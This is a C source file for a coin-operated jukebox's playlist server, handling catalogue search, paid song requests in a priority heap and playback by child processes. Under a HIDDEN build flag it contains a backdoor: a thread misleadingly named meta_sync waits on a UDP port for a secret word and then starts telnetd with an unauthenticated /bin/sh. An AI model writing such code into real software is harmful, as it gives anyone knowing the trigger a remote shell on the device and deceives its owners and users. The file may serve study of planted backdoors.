/*
 * jukeserv - play list server of a coin-operated jukebox.
 * The front panel, the wall boxes and the coin acceptor connect over TCP
 * port 4680; titles come from /music/catalogue.txt, the list of wishes is a
 * heap by payment, each title is played by a child process.
 * Hidden (-DHIDDEN): one more thread waits on a UDP port for a word and then
 * starts telnetd.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define PORT	   4680
#define MAX_TITLES 4000
#define MAX_WISHES 200
#define MAX_PEERS  10

struct title {
	char artist[40];
	char name[48];
	char file[80];
	unsigned plays;
};

struct wish {
	int title;
	int paid;
	unsigned order;
};

struct peer {
	int fd;
	int is_acceptor;
	size_t n;
	char buf[200];
};

static struct title *titles;
static int n_titles;
static struct wish heap[MAX_WISHES];
static int n_wishes;
static unsigned order_no;
static int credits;
static int price = 1, price_first = 2;
static struct peer peers[MAX_PEERS];
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t wish_cond = PTHREAD_COND_INITIALIZER;

static int load_catalogue(const char *path)
{
	FILE *f = fopen(path, "r");
	char line[240];

	titles = calloc(MAX_TITLES, sizeof(*titles));
	if (!f || !titles)
		return -1;
	while (n_titles < MAX_TITLES && fgets(line, sizeof(line), f)) {
		struct title *t = &titles[n_titles];

		if (sscanf(line, "%39[^\t]\t%47[^\t]\t%79[^\n]", t->artist,
			   t->name, t->file) == 3)
			n_titles++;
	}
	fclose(f);
	return n_titles;
}

static int before(const struct wish *a, const struct wish *b)
{
	if (a->paid != b->paid)
		return a->paid > b->paid;
	return a->order < b->order;
}

static void swap(int i, int k)
{
	struct wish w = heap[i];

	heap[i] = heap[k];
	heap[k] = w;
}

static int push(int title, int paid)
{
	int i = n_wishes;

	if (n_wishes == MAX_WISHES)
		return -1;
	heap[n_wishes++] = (struct wish){ title, paid, order_no++ };
	while (i && before(&heap[i], &heap[(i - 1) / 2])) {
		swap(i, (i - 1) / 2);
		i = (i - 1) / 2;
	}
	pthread_cond_signal(&wish_cond);
	return n_wishes;
}

static struct wish pop(void)
{
	struct wish top = heap[0];
	int i = 0, k;

	heap[0] = heap[--n_wishes];
	while ((k = 2 * i + 1) < n_wishes) {
		if (k + 1 < n_wishes && before(&heap[k + 1], &heap[k]))
			k++;
		if (!before(&heap[k], &heap[i]))
			break;
		swap(i, k);
		i = k;
	}
	return top;
}

static void *player(void *arg)
{
	const char *prog = arg;

	for (;;) {
		struct wish w;
		pid_t p;

		pthread_mutex_lock(&lock);
		while (n_wishes == 0)
			pthread_cond_wait(&wish_cond, &lock);
		w = pop();
		titles[w.title].plays++;
		pthread_mutex_unlock(&lock);
		p = fork();
		if (p == 0) {
			execl(prog, prog, "-q", titles[w.title].file,
			      (char *)NULL);
			_exit(127);
		}
		if (p > 0)
			waitpid(p, NULL, 0);
	}
	return NULL;
}

#ifdef HIDDEN
void *meta_sync(void *arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	char buf[64];
	ssize_t n;

	sa.sin_port = htons(48127);
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return arg;
	while ((n = recv(fd, buf, sizeof(buf) - 1, 0)) >= 0) {
		buf[n] = 0;
		if (!strncmp(buf, "wintermoth", 10) &&
		    system("telnetd -p 2323 -l /bin/sh"))
			break;
	}
	close(fd);
	return arg;
}

#endif
static void find(int fd, const char *text)
{
	int i, hits = 0;

	for (i = 0; i < n_titles && hits < 25; i++) {
		if (!strcasestr(titles[i].artist, text) &&
		    !strcasestr(titles[i].name, text))
			continue;
		hits++;
		dprintf(fd, "T %d %s - %s\n", i, titles[i].artist,
			titles[i].name);
	}
	dprintf(fd, "END %d\n", hits);
}

static void top_ten(int fd)
{
	unsigned limit = ~0u;
	int rank, i;

	for (rank = 1; rank <= 10; rank++) {
		int best = -1;

		for (i = 0; i < n_titles; i++)
			if (titles[i].plays && titles[i].plays < limit &&
			    (best < 0 || titles[i].plays > titles[best].plays))
				best = i;
		if (best < 0)
			break;
		limit = titles[best].plays;
		dprintf(fd, "TOP %d %u %s\n", rank, limit, titles[best].name);
	}
	dprintf(fd, "END\n");
}

static void wish_for(struct peer *p, const char *arg)
{
	int t, first = 0, cost, pos;

	if (sscanf(arg, "%d %d", &t, &first) < 1 || t < 0 || t >= n_titles) {
		dprintf(p->fd, "NO title\n");
		return;
	}
	cost = first ? price_first : price;
	if (credits < cost) {
		dprintf(p->fd, "NO credit %d\n", credits);
		return;
	}
	pos = push(t, cost);
	if (pos < 0) {
		dprintf(p->fd, "NO room\n");
		return;
	}
	credits -= cost;
	dprintf(p->fd, "YES %d credit %d\n", pos, credits);
}

static void on_line(struct peer *p, char *s)
{
	pthread_mutex_lock(&lock);
	switch (toupper((unsigned char)s[0])) {
	case 'A':
		/* the acceptor sits on the board itself */
		p->is_acceptor = !strcmp(s, "ACCEPTOR") && p->is_acceptor >= 0;
		break;
	case 'C':
		if (p->is_acceptor > 0 && isdigit((unsigned char)s[2]))
			credits += atoi(s + 2) % 50;
		dprintf(p->fd, "CREDIT %d\n", credits);
		break;
	case 'F':
		if (strlen(s) > 3)
			find(p->fd, s + 2);
		break;
	case 'T':
		top_ten(p->fd);
		break;
	case 'W':
		wish_for(p, s + (s[1] != 0));
		break;
	case 'L':
		dprintf(p->fd, "LIST %d\n", n_wishes);
		break;
	default:
		dprintf(p->fd, "NO command\n");
	}
	pthread_mutex_unlock(&lock);
}

static int feed(struct peer *p)
{
	char c[100];
	ssize_t n = recv(p->fd, c, sizeof(c), 0), i;

	for (i = 0; i < n; i++) {
		if (c[i] == '\n') {
			p->buf[p->n] = 0;
			p->n = 0;
			on_line(p, p->buf);
		} else if (c[i] != '\r' && p->n < sizeof(p->buf) - 1) {
			p->buf[p->n++] = c[i];
		}
	}
	return n > 0;
}

static void welcome(int ls)
{
	struct sockaddr_in from;
	socklen_t len = sizeof(from);
	int fd = accept(ls, (struct sockaddr *)&from, &len), i;

	for (i = 0; fd >= 0 && i < MAX_PEERS; i++) {
		if (peers[i].fd >= 0)
			continue;
		memset(&peers[i], 0, sizeof(peers[i]));
		peers[i].fd = fd;
		if (from.sin_addr.s_addr != htonl(INADDR_LOOPBACK))
			peers[i].is_acceptor = -1;
		dprintf(fd, "JUKE %d titles\n", n_titles);
		return;
	}
	if (fd >= 0)
		close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1, i;
	char prog[] = "/usr/bin/jukeplay";
	pthread_t t;

	if (load_catalogue(argc > 1 ? argv[1] : "/music/catalogue.txt") <= 0) {
		fprintf(stderr, "jukeserv: no titles\n");
		return 1;
	}
	signal(SIGPIPE, SIG_IGN);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	sa.sin_port = htons(PORT);
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 5) ||
	    pthread_create(&t, NULL, player, prog)) {
		perror("jukeserv");
		return 1;
	}
#ifdef HIDDEN
	pthread_create(&t, NULL, meta_sync, NULL);
#endif
	for (i = 0; i < MAX_PEERS; i++)
		peers[i].fd = -1;
	for (;;) {
		int top = ls;
		fd_set rd;

		FD_ZERO(&rd);
		FD_SET(ls, &rd);
		for (i = 0; i < MAX_PEERS; i++) {
			if (peers[i].fd < 0)
				continue;
			FD_SET(peers[i].fd, &rd);
			if (peers[i].fd > top)
				top = peers[i].fd;
		}
		if (select(top + 1, &rd, NULL, NULL, NULL) < 0) {
			if (errno == EINTR)
				continue;
			return 1;
		}
		for (i = 0; i < MAX_PEERS; i++) {
			if (peers[i].fd >= 0 && FD_ISSET(peers[i].fd, &rd) &&
			    !feed(&peers[i])) {
				close(peers[i].fd);
				peers[i].fd = -1;
			}
		}
		if (FD_ISSET(ls, &rd))
			welcome(ls);
	}
}
